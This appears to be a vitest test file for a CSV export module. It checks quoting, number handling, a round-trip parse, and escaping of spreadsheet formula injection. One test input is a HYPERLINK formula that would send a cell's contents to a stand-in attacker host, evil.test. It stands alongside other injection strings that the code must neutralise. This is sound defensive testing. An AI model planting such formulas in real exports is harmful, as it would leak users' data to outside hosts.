import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLines, csvText } from './csv.ts'

const body = (text: string) => text.replace(/^\ufeff/, '')

test('names first, one line for each row, with every column that any row has', () => {
  const rows = [
    { name: 'Biotin', pence: 565, on: new Date('2026-11-20T10:00:00Z'), note: null },
    { name: 'Say "hello", twice', pence: -3, tags: ['a', 'b'], guest: false },
  ]
  expect(body(csvText(rows))).toBe(
    'name,pence,on,note,tags,guest\r\nBiotin,565,2026-11-20T10:00:00.000Z,,,\r\n"Say ""hello"", twice",-3,,,"a, b",false\r\n',
  )
  expect(csvText([])).toBe('')
})

test.each([
  '=1+1',
  '+44 20 7946 0100',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1+1',
  '－1',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
])('%j is text to a spreadsheet, not a formula', text => {
  expect(
    body(csvText([{ note: text }]))
      .split('\r\n')
      .slice(1)
      .join('\r\n'),
  ).toMatch(/^"'/)
})

test('a list whose first word begins like a formula is text too', () => {
  expect(body(csvText([{ tags: ['=1+1', 'b'] }]))).toBe('tags\r\n"\'=1+1, b"\r\n')
})

test('a number stays one, whether it comes as one or as text', () => {
  expect(body(csvText([{ a: -5, b: '-5', c: '12.50' }]))).toBe('a,b,c\r\n-5,-5,12.50\r\n')
})

test('whatever is in a cell comes back as it was, but for the apostrophe', () => {
  fc.assert(
    fc.property(fc.array(fc.record({ a: fc.string(), b: fc.string({ unit: 'binary' }) }), { minLength: 1 }), rows => {
      const read = parsed(body(csvText(rows)))
      expect(read[0]).toEqual(['a', 'b'])
      const without = (text: string) => text.replace(/^'/, '')
      expect(read.slice(1).map(cells => cells.map(without))).toEqual(rows.map(({ a, b }) => [without(a), without(b)]))
    }),
  )
})

/** A reader of RFC 4180. */
function parsed(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        cell += text[at]
        if (text[at] === '"') at++
      }
      at++
    } else {
      while (text[at] !== ',' && !text.startsWith('\r\n', at)) cell += text[at++]
    }
    row.push(cell)
    if (text[at] === ',') at++
    else {
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

test('line by line, columns may have one name', () => {
  const lines = [
    ['Iron', 'Known', 'Known'],
    [1.5, '', '=1'],
  ]
  expect(body(csvLines(lines))).toBe('Iron,Known,Known\r\n1.5,,"\'=1"\r\n')
})
